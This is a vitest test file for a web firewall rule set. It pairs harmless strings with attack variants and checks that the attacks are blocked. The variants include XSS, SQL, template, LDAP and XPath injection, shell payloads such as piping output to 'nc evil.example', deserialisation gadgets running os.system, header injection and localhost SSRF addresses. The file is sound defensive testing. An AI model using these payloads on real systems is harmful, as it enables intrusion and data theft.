/** Tests texts that are harmless as a whole, and the additions that turn them into attacks. */
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { RuleSet } from './rule-set.ts';

const ruleSet = new RuleSet({});
const isQueryBlocked = (query: string): boolean =>
	ruleSet
		.checkHead({ method: 'GET', path: '/search', query, headers: { 'user-agent': 'curl/8.14.1' } })
		.some(({ action }) => action === 'block');
const isBlocked = (name: string, value: string): boolean => isQueryBlocked(`${name}=${encodeURIComponent(value)}`);

describe('pass, and do not with one thing more', () => {
	test.each<[string, string]>([
		['<input type="text" name="email" required>', '<input type="text" name="email" required onfocus=alert(1)>'],
		['<img src="logo.png" alt="Logo">', '<img src="//evil.example/logo.png" alt="Logo">'],
		['<iframe> sandbox attribute', '<iframe src="https://evil.example/">'],
		['<script> tag placement', '<script> tag(placement)</script>'],
		['<p style="color: red">', '<p style="background: url(javascript:x)">'],
		['<Card size="large" onChange={setValue}>', '<Card size="large" onChange={alert(1)}>'],
		['git log --oneline | head -5', 'git log --oneline | nc evil.example 80'],
		['ps aux | grep node', 'x | ps aux'],
		['docker run -v $(pwd):/app node', 'docker run -v $(whoami):/app node'],
		['find . -name "*.log"', 'find . -exec id'],
		['grep -rn "a" src/', 'grep -rn "a" /etc/'],
		['curl -X POST --retry 3', 'curl -X POST http://evil.example/x'],
		['make && make install', 'make && /bin/sh'],
		['{{ user.name | upper }}', '{{ user.name | attr("x") }}'],
		['{{ customer.city }}', '{{ config.city.items }}'],
		['{% if user %}', '{% if user.__class__ %}'],
		['${user.name}', '${user.getClass()}'],
		['<%= title %>', '<%= system title %>'],
		['<%= link_to "Home", root_path %>', '<%= exec "id" %>'],
		["require('fs')", "require('fs').readFileSync('x')"],
		['print("hello")', 'print(`id`)'],
		['strlen("a")', 'strlen($_GET[1])'],
		['java.util.ConcurrentModificationException', 'java.util.PriorityQueue'],
		['//a[@class="x"]/text()', '"] | //a[@class="x"]/text()'],
		['(&(uid=a)(|(sn=b)(sn=c)))', '(uid=a)(|(sn=b)(sn=c))'],
		['["a","it\'s","#x"]', '["a","1\' or \'1\'=\'1","#x"]'],
		['the union select committee', '1 union select password'],
		["Unexpected token '<' in JSON", "x' < 'y"],
	])('%s', (harmless, attack) => {
		expect([isBlocked('q', harmless), isBlocked('q', attack)]).toEqual([false, true]);
	});
});

describe.each(['redirect_uri', 'callback', 'webhook_url', 'next', 'url'])('addresses of the own machine in %s', (name) => {
	test.each(['http://127.0.0.1:49152/callback', 'http://localhost:3000/', 'http://[::1]:8400/', 'http://host.docker.internal/'])(
		'%s is blocked',
		(address) => {
			expect(isBlocked(name, address)).toBe(true);
		},
	);
});

/** Form, place and payload of attacks disguised as one of the forms. */
const bypasses = readFileSync(new URL('../../../../test/suites/harmless-form-bypasses/bypasses.txt', import.meta.url), 'utf8')
	.trimEnd()
	.split('\n')
	.map((line) => line.split('\t'));

test.each([...Map.groupBy(bypasses, ([form = '']) => form)])('no attack passes as harmless: %s', (_form, lines) => {
	expect(lines.length).toBeGreaterThanOrEqual(20);
	const passed = lines.filter(
		([, position, payload = '']) => !isQueryBlocked(position === 'raw' ? payload : `q=${encodeURIComponent(payload)}`),
	);
	expect(passed).toEqual([]);
});

describe('line ends, objects and schemes', () => {
	test.each([
		'x\u560d\u560aSet-Cookie: a=b',
		'!!python/object/apply:os.system ["id"]',
		"cposix\nsystem\n(S'id'",
		'db.users.drop()',
		'os.execute("id")',
		'data://text/plain;base64,AAAA',
		'//evil.example/shell/x.php',
		'admin)(!(&(1=0',
		"x' or string-length(//user)=3 or ''='",
	])('%s', (attack) => {
		expect(isBlocked('q', attack)).toBe(true);
	});
});
